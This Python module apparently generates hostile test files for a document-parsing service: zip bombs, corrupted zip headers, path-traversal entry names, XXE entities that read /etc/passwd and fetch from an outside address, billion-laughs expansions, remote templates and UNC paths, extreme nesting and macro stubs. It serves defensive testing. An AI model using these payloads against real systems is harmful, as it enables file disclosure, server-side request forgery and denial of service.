"""Office files and archives that are broken or made to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

OFFICE: dict[str, Callable[[str], bytes]] = {}
"""Maker of each file by name; it is given the address that must never be asked for anything."""

WORDS = "Testo visibile della cooperativa sociale"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PARAGRAPH = f"<w:p><w:r><w:t>{WORDS}.</w:t></w:r></w:p>"


def made(ending: str):
    def kept(function: Callable[[str], bytes]) -> Callable[[str], bytes]:
        OFFICE[f"{function.__name__}.{ending}"] = function
        return function

    return kept


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def links(*entries: tuple[str, str, str]) -> str:
    """Make a list of relationships of (id, kind, target); addresses are marked as outside."""
    rows = ""
    for identifier, kind, target in entries:
        mode = ' TargetMode="External"' if ":" in target or target.startswith("\\") else ""
        rows += f'<Relationship Id="{identifier}" Type="{KIND}{kind}" Target="{target}"{mode}/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{rows}</Relationships>'


def document(body: str, head: str = "", **parts: str | bytes) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": links(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": f"{head}<w:document {W} {R} {A}><w:body>{body}</w:body>"
            "</w:document>",
            **{name.replace("__", "/"): content for name, content in parts.items()},
        }
    )


def shape(text: str = WORDS, x: int = 0, y: int = 0) -> str:
    return (
        f'<p:sp><p:nvSpPr><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="{x}" y="{y}"/>'
        f'<a:ext cx="900000" cy="90000"/></a:xfrm></p:spPr><p:txBody><a:p><a:r><a:t>{text}</a:t>'
        "</a:r></a:p></p:txBody></p:sp>"
    )


def slide(tree: str) -> str:
    return f"<p:sld {P} {A} {R}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld></p:sld>"


def deck(slides: list[str | bytes], parts: Mapping[str, str | bytes] | None = None) -> bytes:
    entries = "".join(f'<p:sldId id="{256 + n}" r:id="r{n}"/>' for n in range(len(slides)))
    return zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": links(("r1", "officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": f"<p:presentation {P} {R}><p:sldIdLst>{entries}</p:sldIdLst>"
            "</p:presentation>",
            "ppt/_rels/presentation.xml.rels": links(
                *((f"r{n}", "slide", f"slides/slide{n + 1}.xml") for n in range(len(slides)))
            ),
            **{f"ppt/slides/slide{n}.xml": content for n, content in enumerate(slides, 1)},
            **(parts or {}),
        }
    )


# Archives that grow, lie or lead out


def bomb(megabytes: int) -> bytes:
    target = io.BytesIO()
    head, foot = f"<w:document {W}><w:body>", f"{PARAGRAPH}</w:body></w:document>"
    with (
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as part,
    ):
        part.write(head.encode())
        for _ in range(megabytes):
            part.write(b" " * (1 << 20))
        part.write(foot.encode())
    return target.getvalue()


@made("docx")
def text_of_a_hundred_megabytes(_url: str) -> bytes:
    return bomb(100)


@made("docx")
def size_that_lies(_url: str) -> bytes:
    data = bytearray(bomb(100))
    central = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 2_000)
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, 2_000)
    return bytes(data)


@made("pptx")
def twenty_one_thousand_parts(_url: str) -> bytes:
    return deck([slide(shape())], {f"ppt/media/{n}.bin": b"" for n in range(21_000)})


@made("docx")
def archive_in_archive(_url: str) -> bytes:
    data = bomb(5)
    for depth in range(10):
        data = zipped({f"word/embeddings/{depth}.zip": data, "word/document.xml": data})
    return data


@made("docx")
def parts_that_overlap(_url: str) -> bytes:
    data = bytearray(document(PARAGRAPH, word__a=" " * 1_000_000))
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    entries = bytes(data[start:end])
    count = struct.unpack_from("<H", data, end + 10)[0]
    tail = bytearray(data[end:])
    struct.pack_into("<HH", tail, 8, count * 500, count * 500)
    struct.pack_into("<I", tail, 12, len(entries) * 500)
    return bytes(data[:start]) + entries * 500 + bytes(tail)


@made("pptx")
def names_that_lead_out(_url: str) -> bytes:
    return deck(
        [slide(shape())],
        {
            "../../../fuori.txt": "fuori",
            "/tmp/hostile-fuori.txt": "fuori",
            "..\\..\\fuori.txt": "fuori",
            "ppt/media/../../../../fuori.png": b"\x89PNG",
        },
    )


@made("docx")
def central_list_of_nonsense(_url: str) -> bytes:
    data = bytearray(document(PARAGRAPH))
    central = data.index(b"PK\x01\x02")
    data[central + 10 : central + 46] = b"\xff" * 36
    return bytes(data)


@made("pptx")
def cut_in_half(_url: str) -> bytes:
    data = deck([slide(shape())] * 5)
    return data[: len(data) // 2]


@made("docx")
def packed_in_an_unknown_way(_url: str) -> bytes:
    return document(PARAGRAPH).replace(b"\x08\x00", b"\x63\x00")


@made("docx")
def part_with_a_wrong_sum(_url: str) -> bytes:
    data = bytearray(document(PARAGRAPH * 500))
    at = data.index(b"word/document.xml") + 40
    data[at : at + 20] = bytes(20)
    return bytes(data)


# XML that reaches out or grows


def entities(url: str) -> str:
    return (
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM '
        f'"{url}/dtd"> %y; <!ENTITY z SYSTEM "{url}/z">]>'
    )


@made("docx")
def entities_from_outside(url: str) -> bytes:
    body = "<w:p><w:r><w:t>&x; &z;</w:t></w:r></w:p>"
    return document(PARAGRAPH + body, entities(url))


@made("docx")
def entities_in_utf16(url: str) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="UTF-16"?>{entities(url)}<w:document {W}><w:body>'
        f"{PARAGRAPH}<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return zipped({"word/document.xml": text.encode("utf-16")})


@made("docx")
def entities_in_a_rare_encoding(url: str) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="IBM037"?>{entities(url)}<w:document {W}><w:body>'
        f"{PARAGRAPH}<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return zipped({"word/document.xml": text.encode("cp037")})


@made("docx")
def entities_in_utf7(url: str) -> bytes:
    text = (
        f"{entities(url)}<w:document {W}><w:body>{PARAGRAPH}<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
        "</w:body></w:document>"
    )
    head = b'<?xml version="1.0" encoding="UTF-7"?>'
    hidden = text.replace("<!", "+ADwAIQ-").encode("ascii")
    return zipped({"word/document.xml": head + hidden})


def laughs() -> str:
    rows = ['<!ENTITY l0 "ah">']
    rows += [f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 12)]
    return f"<!DOCTYPE a [{''.join(rows)}]>"


@made("docx")
def a_billion_laughs(_url: str) -> bytes:
    return document("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", laughs())


@made("pptx")
def a_slide_of_a_billion_laughs(_url: str) -> bytes:
    bad = laughs() + slide(shape("&l11;"))
    return deck([slide(shape()), bad, slide(shape())])


@made("docx")
def a_type_from_elsewhere(url: str) -> bytes:
    return document(PARAGRAPH, f'<!DOCTYPE w:document SYSTEM "{url}/x.dtd">')


@made("docx")
def templates_and_parts_from_elsewhere(url: str) -> bytes:
    rels = links(
        ("r1", "attachedTemplate", f"{url}/a.dotm"),
        ("r2", "image", "file:///etc/passwd"),
        ("r3", "image", "\\\\127.0.0.1\\condivisa\\a.png"),
        ("r4", "aFChunk", f"{url}/chunk.html"),
        ("r5", "styles", f"{url}/styles.xml"),
        ("r6", "footnotes", "../../../../../../etc/passwd"),
    )
    body = f'{PARAGRAPH}<w:altChunk r:id="r4"/><w:p><w:r><a:blip r:link="r2"/></w:r></w:p>'
    return document(body, word___rels__document_xml_rels=rels).replace(
        b"document_xml_rels", b"document.xml.rels"
    )


@made("pptx")
def pictures_and_notes_from_elsewhere(url: str) -> bytes:
    rels = links(
        ("r1", "image", f"{url}/a.png"),
        ("r2", "notesSlide", f"{url}/notes.xml"),
        ("r3", "slideLayout", "file:///etc/passwd"),
        ("r4", "video", "\\\\127.0.0.1\\condivisa\\a.mp4"),
        ("r5", "diagramData", "../../../../../etc/passwd"),
    )
    picture = '<p:pic><p:blipFill><a:blip r:link="r1"/></p:blipFill></p:pic>'
    return deck([slide(shape() + picture)], {"ppt/slides/_rels/slide1.xml.rels": rels})


# Parts missing, wrong, in circles


@made("pptx")
def slides_that_are_missing(_url: str) -> bytes:
    whole = deck([slide(shape())] * 3)
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        kept = {n: archive.read(n) for n in archive.namelist() if not n.endswith("slide2.xml")}
    return zipped(kept)


@made("docx")
def without_its_text(_url: str) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "word/styles.xml": f"<w:styles {W}/>"})


@made("pptx")
def parts_of_the_wrong_kind(_url: str) -> bytes:
    return deck([b"\x89PNG\r\n\x1a\n" + bytes(500), f"<w:document {W}/>", slide(shape())])


@made("pptx")
def parts_in_a_circle(_url: str) -> bytes:
    itself = links(
        ("r1", "slideLayout", "slide1.xml"),
        ("r2", "notesSlide", "slide1.xml"),
        ("r3", "slideMaster", "slide1.xml"),
        ("r4", "diagramData", "slide1.xml"),
    )
    frame = (
        '<p:graphicFrame><a:graphic><a:graphicData><dgm:relIds xmlns:dgm="http://schemas.openxml'
        'formats.org/drawingml/2006/diagram" r:dm="r4" r:lo="r4" r:qs="r4" r:cs="r4"/>'
        "</a:graphicData></a:graphic></p:graphicFrame>"
    )
    return deck([slide(shape() + frame)], {"ppt/slides/_rels/slide1.xml.rels": itself})


@made("docx")
def styles_in_a_circle(_url: str) -> bytes:
    style = (
        '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="s{0}"/>'
        '<w:basedOn w:val="{1}"/><w:link w:val="{1}"/></w:style>'
    )
    styles = f"<w:styles {W}>{style.format('A', 'B')}{style.format('B', 'A')}</w:styles>"
    body = f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{WORDS}</w:t></w:r></w:p>'
    rels = links(("r1", "styles", "styles.xml"))
    parts = {
        "_rels/.rels": links(("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>",
        "word/styles.xml": styles,
        "word/_rels/document.xml.rels": rels,
    }
    return zipped(parts)


@made("pptx")
def the_same_slide_ten_thousand_times(_url: str) -> bytes:
    entries = '<p:sldId id="256" r:id="r1"/>' * 10_000
    return zipped(
        {
            "_rels/.rels": links(("r1", "officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": f"<p:presentation {P} {R}><p:sldIdLst>{entries}</p:sldIdLst>"
            "</p:presentation>",
            "ppt/_rels/presentation.xml.rels": links(("r1", "slide", "slides/slide1.xml")),
            "ppt/slides/slide1.xml": slide(shape() * 30),
        }
    )


# Too much of one thing


@made("docx")
def a_hundred_thousand_empty_paragraphs(_url: str) -> bytes:
    return document(PARAGRAPH + "<w:p/>" * 100_000 + PARAGRAPH)


@made("docx")
def a_hundred_thousand_page_breaks(_url: str) -> bytes:
    return document(PARAGRAPH + '<w:p><w:r><w:br w:type="page"/></w:r></w:p>' * 100_000 + PARAGRAPH)


@made("docx")
def a_paragraph_of_a_hundred_thousand_runs(_url: str) -> bytes:
    return document("<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 100_000 + "</w:p>")


@made("docx")
def tables_ten_thousand_deep(_url: str) -> bytes:
    depth = 10_000
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return document(PARAGRAPH + opened * depth + PARAGRAPH + closed * depth)


@made("docx")
def tables_sixty_deep(_url: str) -> bytes:
    opened, closed = "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc><w:tc>", "</w:tc></w:tr></w:tbl>"
    return document(PARAGRAPH + opened * 60 + PARAGRAPH + closed * 60)


@made("docx")
def cells_a_billion_wide(_url: str) -> bytes:
    wide = '<w:tcPr><w:gridSpan w:val="1000000000"/><w:vMerge/></w:tcPr>'
    row = f"<w:tr><w:tc>{wide}{PARAGRAPH}</w:tc></w:tr>"
    return document(f"{PARAGRAPH}<w:tbl>{row * 5}</w:tbl>")


@made("pptx")
def cells_of_a_slide_a_billion_wide(_url: str) -> bytes:
    cell = (
        '<a:tc gridSpan="1000000000" rowSpan="1000000000"><a:txBody><a:p><a:r><a:t>cella</a:t>'
        "</a:r></a:p></a:txBody></a:tc>"
    )
    table = f"<a:tbl><a:tr>{cell}</a:tr></a:tbl>"
    frame = (
        f"<p:graphicFrame><a:graphic><a:graphicData>{table}</a:graphicData></a:graphic>"
        "</p:graphicFrame>"
    )
    return deck([slide(shape() + frame)])


@made("pptx")
def groups_ten_thousand_deep(_url: str) -> bytes:
    tree = "<p:grpSp>" * 10_000 + shape() + "</p:grpSp>" * 10_000
    return deck([slide(shape()), slide(tree)])


@made("pptx")
def groups_two_hundred_deep(_url: str) -> bytes:
    tree = "<p:grpSp>" * 200 + shape() + "</p:grpSp>" * 200
    return deck([slide(shape()), slide(tree)])


@made("pptx")
def ten_thousand_shapes_on_a_slide(_url: str) -> bytes:
    tree = "".join(
        shape(f"forma {n}", x=n * 977 % 9_000_000, y=n * 7919 % 6_000_000) for n in range(10_000)
    )
    return deck([slide(tree)])


@made("pptx")
def shapes_in_one_long_stair(_url: str) -> bytes:
    tree = "".join(shape(f"gradino {n}", x=n * 1_000_000, y=n * 100_000) for n in range(3_000))
    return deck([slide(tree)])


@made("pptx")
def shapes_without_a_place(_url: str) -> bytes:
    tree = "".join(
        f"<p:sp><p:spPr/><p:txBody><a:p><a:r><a:t>forma {n}</a:t></a:r></a:p></p:txBody></p:sp>"
        for n in range(10_000)
    )
    return deck([slide(tree)])


@made("pptx")
def places_of_nonsense(_url: str) -> bytes:
    odd = [shape().replace('"0"', f'"{value}"') for value in ("nan", "inf", "-1e400", "9" * 400)]
    return deck([slide("".join(odd) + shape())])


@made("docx")
def a_word_of_ten_megabytes(_url: str) -> bytes:
    return document(f"{PARAGRAPH}<w:p><w:r><w:t>{'a' * 9_000_000}</w:t></w:r></w:p>")


@made("docx")
def fields_that_never_end(_url: str) -> bytes:
    opened = '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "/etc/passwd" '
    return document(
        PARAGRAPH + f"<w:p>{(opened + '</w:instrText></w:r>') * 50_000}</w:p>" + PARAGRAPH
    )


# Other kinds


@made("docm")
def a_document_with_macros(_url: str) -> bytes:
    return document(PARAGRAPH, word__vbaProject_bin=b"\xd0\xcf\x11\xe0 Sub AutoOpen")


@made("pptm")
def a_deck_with_macros(_url: str) -> bytes:
    return deck([slide(shape())], {"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Auto_Open"})


@made("docx")
def macros_under_another_ending(_url: str) -> bytes:
    return document(PARAGRAPH, word__vbaProject_bin=b"\xd0\xcf\x11\xe0 Sub AutoOpen")


@made("xlsx")
def a_spreadsheet(_url: str) -> bytes:
    return zipped({"xl/workbook.xml": "<workbook/>"})


@made("epub")
def a_book_with_entities(url: str) -> bytes:
    chapter = f"{entities(url)}<html><body><p>{WORDS} &x; &z;</p></body></html>"
    package = (
        f'{entities(url)}<package xmlns="http://www.idpf.org/2007/opf"><metadata>&x;</metadata>'
        '<manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'
        f'<item id="b" href="{url}/b.xhtml" media-type="application/xhtml+xml"/>'
        '<item id="c" href="../../../etc/passwd" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>'
    )
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="content.opf"/></rootfiles></container>'
    )
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": container,
            "content.opf": package,
            "a.xhtml": chapter,
        }
    )


@made("odt")
def an_open_document_with_entities(url: str) -> bytes:
    content = (
        f'{entities(url)}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xml'
        'ns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        f"<office:text><text:p>{WORDS} &x; &z;</text:p></office:text></office:body>"
        "</office:document-content>"
    )
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
        }
    )
